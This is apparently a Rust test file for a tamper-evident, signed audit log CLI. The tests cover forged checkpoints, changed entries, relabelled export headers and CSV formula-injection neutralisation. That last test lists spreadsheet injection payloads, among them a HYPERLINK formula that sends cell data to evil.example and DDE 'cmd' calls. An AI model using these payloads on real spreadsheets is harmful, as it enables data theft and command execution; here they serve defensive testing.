    // Re-sign the latest checkpoint with another key (an edit re-signed to hide it).
    let conn = rusqlite::Connection::open(s.audit()).unwrap();
    let (size, frontier): (i64, Vec<u8>) = conn
        .query_row("SELECT size, frontier FROM state", [], |r| {
            Ok((r.get(0)?, r.get(1)?))
        })
        .unwrap();
    let origin: String = conn
        .query_row("SELECT value FROM meta WHERE key = 'origin'", [], |r| {
            r.get(0)
        })
        .unwrap();
    let other = LogKey::from_seed(&origin, &[9; 32]).unwrap();
    let root = audit::store_frontier_root(size as u64, &frontier).unwrap();
    let sig = other.sign(size as u64, &root).unwrap();
    conn.execute("UPDATE state SET sig = ?1", [sig]).unwrap();
    drop(conn);
    s.smv(&["whoami"]).fails(7);
    s.smv(&["audit", "verify"])
        .fails(10)
        .stderr_has("does not verify");
}

/// `audit show` of an entry whose bytes were changed in the log: the proof does not verify,
/// and the command fails (exit 10) with `--json` too — before, the JSON form exited 0.
#[test]
fn show_of_a_changed_entry_fails_in_both_forms() {
    let (s, seq) = log_with_a_changed_entry(3, "a1");
    let seq = seq.to_string();
    let human = s.smv(&["audit", "show", &seq]).fails(10);
    assert!(human.stdout.contains("DOES NOT VERIFY"), "{}", human.stdout);
    let json = s.smv(&["audit", "show", &seq, "--json"]).fails(10);
    let shown: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(shown["proof_verified"], false);
    assert!(
        json.stderr.contains("\"class\":\"tampered\""),
        "{}",
        json.stderr
    );
}

/// An auditor recomputes a leaf from `audit show --json` with generic tools: the hashed bytes
/// are in `leaf_bytes` (base64), and SHA-256 of 0x00 then those bytes is the leaf. Text with
/// U+2028, U+2029 and DEL: smv's JSON printer writes those as `\uXXXX` escapes (so a terminal
/// shows them), which are not the bytes that were hashed; `leaf_bytes` are.
#[test]
fn audit_show_json_carries_the_exact_hashed_bytes() {
    use base64::Engine as _;
    use sha2::Digest as _;
    let s = Sandbox::new();
    s.init();
    s.smv(&["account", "add", "demo", "--provider", "outbox"])
        .ok();
    let text = "line\u{2028}para\u{2029}del\u{7f}end";
    s.smv(&["grant", "alice", "demo", "post"]).ok();
    s.smv(&["post", "demo", text]).ok();
    let log = s
        .smv(&["--json", "audit", "log", "--action", "post"])
        .ok()
        .json();
    let seq = log.as_array().unwrap().last().unwrap()["seq"]
        .as_u64()
        .unwrap()
        .to_string();
    let run = s.smv(&["audit", "show", &seq, "--json"]).ok();
    // The printed JSON escapes them (what a terminal shows), so its bytes are not the hashed ones.
    assert!(run.stdout.contains("\\u2028"), "{}", run.stdout);
    let shown = run.json();
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(shown["leaf_bytes"].as_str().expect("leaf_bytes is there"))
        .unwrap();
    let mut hashed = vec![0u8];
    hashed.extend_from_slice(&bytes);
    let leaf: String = sha2::Sha256::digest(&hashed)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    assert_eq!(shown["leaf"].as_str().unwrap(), leaf);
    // The exact characters are in the hashed bytes, unescaped.
    let body = String::from_utf8(bytes.clone()).unwrap();
    assert!(body.contains(text), "{body:?}");
    // And the readable form is the same data.
    let parsed: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
    assert_eq!(parsed, shown["entry"]);
    // With nothing but coreutils, where they are: base64 -d, then sha256sum of 0x00 + bytes.
    let b64 = shown["leaf_bytes"].as_str().unwrap();
    let sh = std::process::Command::new("sh")
        .arg("-c")
        .arg(r#"{ printf '\000'; printf '%s' "$B64" | base64 -d; } | sha256sum"#)
        .env("B64", b64)
        .output();
    match sh {
        Ok(o) if o.status.success() => {
            let out = String::from_utf8_lossy(&o.stdout);
            assert_eq!(out.split_whitespace().next(), Some(leaf.as_str()), "{out}");
        }
        _ => eprintln!("skipped the coreutils check: no sh, base64 or sha256sum here"),
    }
}

/// An export's `selection` header is checked against its entries: a header edited to claim
/// another account (or member, action or time) over this account's entries does not verify.
#[test]
fn a_selection_header_that_claims_another_selection_does_not_verify() {
    let dir = tempfile::tempdir().unwrap();
    let (log, key) = random_log(30, dir.path());
    let selection = audit::Filter {
        account: Some("acc-0".into()),
        ..Default::default()
    };
    let text = export(&log, &key, &selection);
    assert!(verify_text(&text, &key, None).is_ok());
    let claims = [
        (
            "another account",
            "\"account\":\"acc-0\"",
            "\"account\":\"acc-1\"",
        ),
        (
            "an action the entries do not all have",
            "\"action\":null",
            "\"action\":\"grant\"",
        ),
        (
            "a member who is not every entry's actor",
            "\"member\":null",
            "\"member\":\"joe\"",
        ),
        (
            "a time range after the entries",
            "\"since\":null",
            "\"since\":\"2999-01-01T00:00:00.000000Z\"",
        ),
    ];
    for (what, from, to) in claims {
        let forged = edit_line(&text, 0, |h| h.replace(from, to));
        assert_ne!(forged, text, "{what}: the header was edited");
        match verify_text(&forged, &key, None) {
            Err(audit::export::Rejected::Failure(f)) => {
                assert!(f.reason.contains("selection"), "{what}: {}", f.reason)
            }
            other => panic!("{what}: a forged selection header verified: {other:?}"),
        }
    }
    // The report names the selection it checked.
    let r = verify_text(&text, &key, None).unwrap();
    assert_eq!(
        r.selection.and_then(|f| f.account).as_deref(),
        Some("acc-0")
    );
}

/// The same through the CLI: `smv audit export --account demo`, its header edited to say
/// `x-main`, fails `smv audit verify --log … --pubkey …` with exit 10.
#[test]
fn an_exported_selection_relabelled_as_another_account_fails_verify() {
    let s = Sandbox::new();
    s.init();
    for a in ["demo", "x-main"] {
        s.smv(&["account", "add", a, "--provider", "outbox"]).ok();
        s.smv(&["grant", "alice", a, "post"]).ok();
    }
    s.smv(&["post", "demo", "hello from demo"]).ok();
    let export = s.home().join("demo.jsonl");
    let key = s.home().join("audit.pub");
    std::fs::write(&key, s.smv(&["audit", "pubkey"]).ok().stdout).unwrap();
    s.smv(&[
        "audit",
        "export",
        "--format",
        "jsonl",
        "--account",
        "demo",
        "--out",
        export.to_str().unwrap(),
    ])
    .ok();
    let args = [
        "audit",
        "verify",
        "--log",
        export.to_str().unwrap(),
        "--pubkey",
        key.to_str().unwrap(),
    ];
    s.smv(&args).ok().stdout_has("selection: account demo");
    let text = std::fs::read_to_string(&export).unwrap();
    let forged = edit_line(&text, 0, |h| {
        h.replace("\"account\":\"demo\"", "\"account\":\"x-main\"")
    });
    assert_ne!(forged, text);
    std::fs::write(&export, forged).unwrap();
    s.smv(&args).fails(10).stderr_has("selection");
}

/// A tiny CSV reader (RFC 4180 quoting) for the tests: the cells of each record.
fn csv_records(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let (mut record, mut cell) = (Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                record.push(std::mem::take(&mut cell));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => cell.push(c),
        }
    }
    records
}

/// CSV cells that a spreadsheet would run as a formula (`= + - @`, or after a tab or CR) are
/// written as text with a leading `'`; the JSON-lines export of the same entries keeps their
/// exact bytes (and verifies).
#[test]
fn csv_cells_that_would_run_as_formulas_are_neutralised_and_jsonl_stays_exact() {
    let dir = tempfile::tempdir().unwrap();
    let key = LogKey::from_seed("smv-audit/csv", &[5; 32]).unwrap();
    let mut log = AuditLog::create(
        &dir.path().join("log.sqlite"),
        LogKey::from_seed("smv-audit/csv", &[5; 32]).unwrap(),
    )
    .unwrap();
    let dangerous = [
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    for (i, reason) in dangerous.iter().enumerate() {
        let mut r = record(i, Outcome::Failed, &format!("c{i}"));
        r.reason = Some(reason.to_string());
        r.actor = reason.to_string();
        log.append(&r).unwrap();
    }
    let mut out = Vec::new();
    audit::export::write_csv(&log, &Default::default(), &mut out, &mut |_, _| {}).unwrap();
    let text = String::from_utf8(out).unwrap();
    let records = csv_records(&text);
    assert_eq!(records.len(), dangerous.len() + 1, "{text}");
    for (row, reason) in records[1..].iter().zip(dangerous) {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet runs: {cell:?} in {row:?}"
            );
        }
        // Nothing is lost: the cell is the text after one `'`.
        assert_eq!(row[2], format!("'{reason}"), "actor");
        assert_eq!(row[7], format!("'{reason}"), "reason");
    }
    // Cells that are fine stay as they are (no `'` before a time or a number).
    assert!(!records[1][0].starts_with('\''));
    assert!(!records[1][1].starts_with('\''));
    // The JSON-lines export keeps the exact text, and verifies.
    let jsonl = export(&log, &key, &Default::default());
    for reason in dangerous {
        assert!(
            jsonl.contains(&serde_json::to_string(reason).unwrap()),
            "{reason:?}"
        );
    }
    assert!(verify_text(&jsonl, &key, None).is_ok());
}
